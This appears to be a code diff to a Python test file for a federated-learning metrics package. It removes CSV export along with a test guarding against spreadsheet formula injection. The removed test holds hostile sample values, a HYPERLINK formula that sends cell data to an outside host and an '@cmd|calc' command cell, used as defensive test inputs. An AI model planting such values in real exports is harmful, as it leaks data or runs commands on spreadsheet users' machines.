@@ -1,13 +1,11 @@
-"""A record as pandas tables, and as CSV files."""
-
-import csv
+"""A record as pandas tables."""
 
 import pytest
 from report.conftest import failed, sample
 
 from fedkd_flwr.errors import ConfigError
 from fedkd_flwr.metrics import Metrics
-from fedkd_flwr.record.frames import FRAMES, write_csv_files
+from fedkd_flwr.record.frames import FRAMES
 
 
 def test_rounds_have_one_row_each_with_counts_and_figures():
@@ -50,17 +48,3 @@ def test_an_unknown_table_lists_the_known_ones_and_an_empty_record_has_empty_one
         record.to_frame("classes")
     record.rounds, record.parties, record.centralised = [], [], {}
     assert [len(record.to_frame(name)) for name in FRAMES] == [0, 0, 0, 0]
-
-
-def test_no_name_that_came_over_the_wire_is_computed_by_a_spreadsheet_and_all_else_stays(tmp_path):
-    record = sample(3, 2)
-    name = '=HYPERLINK("http://elsewhere/?"&A1,"st-mary")'
-    record.rounds[0].answered.append(name)
-    record.party(name).model = "@cmd|calc"
-    for path in write_csv_files(record.as_dict(), tmp_path):
-        text = path.read_text(encoding="utf-8")
-        cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
-        assert not [cell for cell in cells if cell.startswith(("=", "@"))]
-        assert (f"'{name}" in cells) == (path.stem in ("parties", "party_rounds"))
-        plain = record.to_frame(path.stem).to_csv(index=False, lineterminator="\n")
-        assert text == plain.replace('"=HYPERLINK', "\"'=HYPERLINK").replace("@cmd", "'@cmd")
